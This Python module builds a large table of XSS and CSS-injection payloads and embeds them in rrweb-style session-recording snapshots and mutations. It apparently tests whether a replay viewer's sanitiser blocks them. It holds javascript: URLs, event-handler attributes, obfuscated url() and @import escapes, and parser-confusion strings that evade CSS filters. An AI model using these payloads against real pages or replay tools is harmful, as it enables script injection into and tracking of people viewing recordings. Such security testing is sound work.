"""Attacks on people who open a page that we write, one a row; each loads from an address of its own to be found by.

`ADDRESS` is a placeholder for it. Names and values go into HTML, SVG and MathML, snapshots and mutations; CSS into
everything that holds CSS.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from . import made
from .hostile import ids, svg, tag, text

# Elements that run or load something, if a browser knows them by these names.
ELEMENTS = [
    "script",
    "SCRIPT",
    "svg:script",
    "SVG:Script",
    "x:script",
    "é:script",
    "a:b:script",
    "svg:svg:script",
    ":script",
    "script:",
    "xlink:script",
    "html:script",
    "script\n",
    "script/x",
    "ſcript",
    "iframe",
    "svg:iframe",
    "x:IFRAME",
    "fencedframe",
    "portal",
    "frame",
    "x:frame",
    "embed",
    "svg:embed",
    "object",
    "OBJECT",
    "h:object",
    "applet",
    "link",
    "x:link",
    "svg:link",
    "base",
    "x:base",
    "meta",
    "x:META",
    "img",
    "svg:img",
    "image",
    "svg:image",
    "use",
    "svg:use",
    "feImage",
    "SVG:feImage",
    "audio",
    "video",
    "svg:video",
    "source",
    "track",
    "input",
    "bgsound",
    "layer",
    "style",
    "svg:style",
    "x:style",
    "SVG:STYLE",
    "noscript",
    "xmp",
    "plaintext",
    "template",
    "geolocation",
    "x:permission",
]
# Animations that would set the address of the link around them.
ANIMATIONS = [
    "animate",
    "svg:animate",
    "SVG:Animate",
    "x:animate",
    "set",
    "svg:set",
    "a:b:set",
    ":set",
    "animateTransform",
    "svg:animateMotion",
    "discard",
]
# Of which element, and with which value.
ATTRIBUTES = [
    ("a", "href", "javascript:alert('ADDRESS')"),
    ("a", "HREF", " java\tscript:alert('ADDRESS')"),
    ("a", "xlink:href", "javascript:alert('ADDRESS')"),
    ("a", "svg:href", "ADDRESS"),
    ("a", "x:y:href", "ADDRESS"),
    ("a", ":href", "ADDRESS"),
    ("a", "é:href", "ADDRESS"),
    ("a", "ping", "ADDRESS"),
    ("x:a", "href", "javascript:alert('ADDRESS')"),
    ("svg:a", "xlink:href", "javascript:alert('ADDRESS')"),
    ("area", "href", "ADDRESS"),
    ("form", "action", "ADDRESS"),
    ("button", "formaction", "ADDRESS"),
    ("img", "src", "ADDRESS"),
    ("img", "SRC", "ADDRESS"),
    ("img", "srcset", "ADDRESS 1x"),
    ("img", "onerror", "alert('ADDRESS')"),
    ("img", "x:onerror", "alert('ADDRESS')"),
    ("img", "OnLoad", "alert('ADDRESS')"),
    ("svg", "onload", "alert('ADDRESS')"),
    ("body", "onpageshow", "alert('ADDRESS')"),
    ("body", "background", "ADDRESS"),
    ("details", "ontoggle", "alert('ADDRESS')"),
    ("input", "onfocus", "alert('ADDRESS')"),
    ("iframe", "src", "ADDRESS"),
    ("iframe", "srcdoc", "<script>alert('ADDRESS')</script>"),
    ("iframe", "SrcDoc", "<img src='ADDRESS'>"),
    ("iframe", "x:srcdoc", "<img src='ADDRESS'>"),
    ("svg:iframe", "srcdoc", "<img src='ADDRESS'>"),
    ("image", "src", "ADDRESS"),
    ("image", "href", "ADDRESS"),
    ("image", "xlink:href", "ADDRESS"),
    ("image", "x:href", "ADDRESS"),
    ("svg:image", "xlink:href", "ADDRESS"),
    ("SVG:Image", "XLINK:HREF", "ADDRESS"),
    ("use", "href", "ADDRESS#x"),
    ("use", "xlink:href", "data:image/svg+xml,<svg id='x'><image href='ADDRESS'/></svg>#x"),
    ("feImage", "xlink:href", "ADDRESS"),
    ("mpath", "href", "ADDRESS#x"),
    ("rect", "fill", "url(ADDRESS#x)"),
    ("rect", "mask", "u\\72l(ADDRESS#x)"),
    ("rect", "FILTER", "\\75 rl('ADDRESS#x')"),
    ("rect", "x:fill", "url(ADDRESS#x)"),
    ("table", "background", "ADDRESS"),
    ("video", "poster", "ADDRESS"),
    ("source", "srcset", "ADDRESS"),
    ("input", "src", "ADDRESS"),
    ("html", "manifest", "ADDRESS"),
    ("svg", "xml:base", "ADDRESS"),
    ("mglyph", "src", "ADDRESS"),
    ("math", "xlink:href", "ADDRESS"),
    ("div", "constructor", "ADDRESS"),
    ("div", "__proto__", "ADDRESS"),
    ("style", "_cssText", "b{background:url(ADDRESS)}"),
    ("link", "_cssText", "@import 'ADDRESS';"),
    ("div", "_cssText", "b{background:url(ADDRESS)}"),
    ("canvas", "rr_dataURL", "ADDRESS"),
    ("img", "rr_dataURL", "ADDRESS"),
    ("dialog", "rr_open_mode", "ADDRESS"),
    ("template", "shadowrootmode", "open"),
]
# Style attributes. What is in the value of `c` hides the rest from parsers that read CSS in another way than browsers.
DECLARATIONS = [
    "background:url(ADDRESS)",
    "background:u\\72l(ADDRESS)",
    "background:\\75 rl(ADDRESS)",
    "background:\\000075\nrl('ADDRESS')",
    "BACKGROUND:URL(/**/ADDRESS)",
    "background:/*;*/url( 'ADDRESS' )",
    "background:image-set('ADDRESS' 1x)",
    "background:-webkit-image-set(u\\72l(ADDRESS) 1x)",
    'background:\\69mage-set("ADDRESS" 1x)',
    "background:-webkit-cross-fade(url(ADDRESS),url(ADDRESS),50%)",
    "background:src('ADDRESS')",
    "--c:url(ADDRESS);background:var(--c)",
    "--c:'ADDRESS';background:image-set(var(--c) 1x)",
    "background:image-set(attr(title) 1x)",
    "display:list-item;list-style:url(ADDRESS)",
    "content:url(ADDRESS)",
    "cursor:url(ADDRESS),auto",
    "filter:url(ADDRESS#x)",
    "mask:url(ADDRESS)",
    "border:1px solid;border-image:url(ADDRESS)",
    "shape-outside:url(ADDRESS);float:left",
    "offset-path:url(ADDRESS#x)",
    "c:'\\\n';background:url(ADDRESS)",
    "c:'x\n;background:url(ADDRESS)",
    'c:"\\\\";background:url(ADDRESS)',
    "c:'/*\"';c:\"*/';background:url(ADDRESS);c:x\"",
    'c:"\\\nx";background:url(ADDRESS)',
    "c:(;background:url(ADDRESS));background:url(ADDRESS)",
    "background:url(ADDRESS",
    "background:url('ADDRESS",
    "b\\61ckground:\\000055RL(ADDRESS)",
]
SHEETS = [
    "@import 'ADDRESS';",
    "@IMPORT URL(ADDRESS);",
    "@im\\70ort 'ADDRESS';",
    "@\\69mport url(ADDRESS);",
    '@\\000049mport/**/"ADDRESS";',
    "@import\n'ADDRESS' layer(x) supports(display:block) screen;",
    "@layer a,b;@import u\\72l(ADDRESS) layer(a);",
    "@layer x{@import 'ADDRESS';b{background:url(ADDRESS)}}",
    "@media all{@im\\70ort 'ADDRESS';}",
    "@charset 'x';@import 'ADDRESS';",
    "\ufeff@import 'ADDRESS';",
    "\0@import 'ADDRESS';",
    "<!--@import 'ADDRESS';-->",
    "}@import 'ADDRESS';",
    "@namespace url(ADDRESS);@namespace x u\\72l(ADDRESS);",
    "@import 'ADDRESS'",
    "@supports (display:block){b{background:u\\72l(ADDRESS)}}",
    "@container (min-width:0){b{background:url(ADDRESS)}}",
    "@scope (:host){b{background:url(ADDRESS)}}",
    "@media (min-device-width:0){b{background:url(ADDRESS)}}",
    "@media (min-device-width:0) u/**/rl(x')'ADDRESSb{background:url(ADDRESS)}'){b{c:d}}",
    "@starting-style{b{background:url(ADDRESS)}}",
    "@font-face{font-family:f;src:url(ADDRESS) format('woff')}b{font-family:f}",
    "@font-face{font-family:g;src:local(x),u\\72l('ADDRESS')}b{font-family:g}",
    "@property --p{syntax:'<image>';inherits:false;initial-value:url(ADDRESS)}b{background:var(--p)}",
    "@counter-style c{system:cyclic;symbols:url(ADDRESS)}b{display:list-item;list-style:c}",
    "@page{background:url(ADDRESS)}",
    ":host{b{& {background:url(ADDRESS)}}}",
    "b::before{content:u\\72l(ADDRESS)}",
    "b:hover,b{background:url(ADDRESS)}",
    'b{background:url(\n"ADDRESS"\n)}',
    "b{background:ur/**/l(ADDRESS)}b{background:url(ADDRESS)}/*",
    "b{background:url(ADDRESS",
    # What rrweb-player does to styles would free these: it repeats selectors, splits at comments, knows other strings.
    '"x\n",\'q"z\':hover{}b{background:url(ADDRESS)}\n',
    'url:(a"b)c{}d:hover){}b{background:url(ADDRESS)}url:(q"q)z{}',
    "a u/**/rl(x')''x{}b{background:url(ADDRESS)}'):hover{}",
    'b{c:"\\/* rr_split */";d:"}b{background:url(ADDRESS)}b{c:"}',
    'b{c:"/* rr_split */\\\n"}b{background:"0p/* rr_split */x}b{background:url(ADDRESS)}"}',
    "b{c:'/*# sourceMappingURL=ADDRESS */'}/*# sourceMappingURL=ADDRESS */",
]


def attacks(url: str) -> Iterator[dict[str, Any]]:
    """The whole table as nodes."""
    for number, name in enumerate(ELEMENTS):
        address = f"{url}/element/{number}"
        for kind, make, around in (("html", tag, "div"), ("svg", svg, "svg"), ("math", tag, "math")):
            code = f"alert('{address}/{kind}')"
            loads = {
                "src": f"{address}/{kind}/src",
                "href": f"{address}/{kind}/href",
                "data": f"{address}/{kind}/data",
                "xlink:href": f"{address}/{kind}/xlink",
                "rel": "stylesheet",
                "http-equiv": "refresh",
                "content": f"0;url={address}/{kind}/refresh",
                "onload": code,
            }
            content = f"{code}//{{}}@import '{address}/{kind}/import';b{{background:url({address}/{kind}/css)}}"
            yield make(around, make(name, text(content), **loads), make(name, text(content)))
    for number, name in enumerate(ANIMATIONS):
        code = f"javascript:alert('{url}/animation/{number}')"
        yield svg("svg", svg("a", svg(name, attributeName="href", to=code, values=code, begin="0s", fill="freeze")))
    for number, (element, name, value) in enumerate(ATTRIBUTES):
        address = f"{url}/attribute/{number}"
        for kind, make in (("html", tag), ("svg", svg)):
            yield make(
                "svg" if make is svg else "p", make(element, **{name: value.replace("ADDRESS", f"{address}/{kind}")})
            )
    for number, declarations in enumerate(DECLARATIONS):
        for kind, size in (("plain", {}), ("hidden", {"rr_width": "9px", "rr_height": "9px"})):
            address = f"{url}/declarations/{number}/{kind}"
            yield tag("b", text("x"), style=declarations.replace("ADDRESS", address), title=address, **size)
    for number, sheet in enumerate(SHEETS):
        for kind in ("text", "texts", "recorded", "both", "svg", "adopted"):
            yield shadowed(sheet.replace("ADDRESS", f"{url}/sheet/{number}/{kind}"), kind)


def shadowed(sheet: str, kind: str) -> dict[str, Any]:
    """A shadow root with a style sheet, which ends there, recorded in one of several ways."""
    adopted: dict[str, Any] = {}
    styles: list[dict[str, Any]] = []
    if kind == "text":
        styles = [tag("style", text(sheet))]
    elif kind == "texts":
        styles = [tag("style", *(text(sheet[at : at + 3]) for at in range(0, len(sheet), 3)))]
    elif kind == "recorded":
        styles = [tag("style", _cssText=sheet)]
    elif kind == "both":
        styles = [
            tag("style", text("x"), text("y"), text("z"), _cssText=sheet),
            tag("link", _cssText=sheet, rel="stylesheet"),
        ]
    elif kind == "svg":
        styles = [svg("svg", svg("svg:style", text(sheet)))]
    else:
        adopted = {"adoptedStyleSheets": [{"cssRules": [sheet]}]}
    root = {"type": 11, "id": next(ids), "isShadowRoot": True, "childNodes": [*styles, tag("b", text("x"))], **adopted}
    return tag("x-host", root)


def attacked(url: str) -> list[dict[str, Any]]:
    """Records: the table in a snapshot, once more in a mutation, and set on elements that were harmless before."""
    first, second = list(attacks(f"{url}/snapshot")), list(attacks(f"{url}/added"))
    snapshot = made.snapshot(0, *first)
    # Without one, nothing can look into the frame of a heatmap.
    doctype = {"type": 1, "id": next(ids), "name": "html", "publicId": "", "systemId": ""}
    snapshot["data"]["node"]["childNodes"].insert(0, doctype)
    records = [made.meta(), snapshot]
    plain = [
        (make(element), number, name, value, kind)
        for number, (element, name, value) in enumerate(ATTRIBUTES)
        for kind, make in (("html", tag), ("svg", svg))
    ]
    styled = [tag("b", text("x"), rr_width="9px") for _ in DECLARATIONS]
    sheet = tag("style", text("b{}"), text("i{}"), _cssText="")
    texts = [tag("style", text("b{}")) for _ in SHEETS]
    nodes = [*second, *(node for node, *_ in plain), *styled, sheet, *texts]
    records.append(made.mutation(50, adds=[{"parentId": made.BODY, "nextId": None, "node": node} for node in nodes]))
    sets = [
        {"id": node["id"], "attributes": {name: value.replace("ADDRESS", f"{url}/set/{number}/{kind}")}}
        for node, number, name, value, kind in plain
    ]
    sets += [
        {
            "id": node["id"],
            "attributes": {"style": css.replace("ADDRESS", f"{url}/styled/{number}"), "rr_height": "9px"},
        }
        for number, (node, css) in enumerate(zip(styled, DECLARATIONS, strict=True))
    ]
    changed = [
        {"id": node["childNodes"][0]["id"], "value": css.replace("ADDRESS", f"{url}/changed/{number}")}
        for number, (node, css) in enumerate(zip(texts, SHEETS, strict=True))
    ]
    records.append(made.mutation(100, attributes=sets, texts=changed))
    rules = [css.replace("ADDRESS", f"{url}/inserted/{number}") for number, css in enumerate(SHEETS)]
    records.append(made.event(8, 150, id=sheet["id"], adds=[{"rule": rule, "index": 0} for rule in rules]))
    resized = [{"id": node["id"], "attributes": {"rr_width": "8px"}} for node in styled]
    records.append(made.mutation(200, attributes=resized))
    return [*records, made.click(250)]
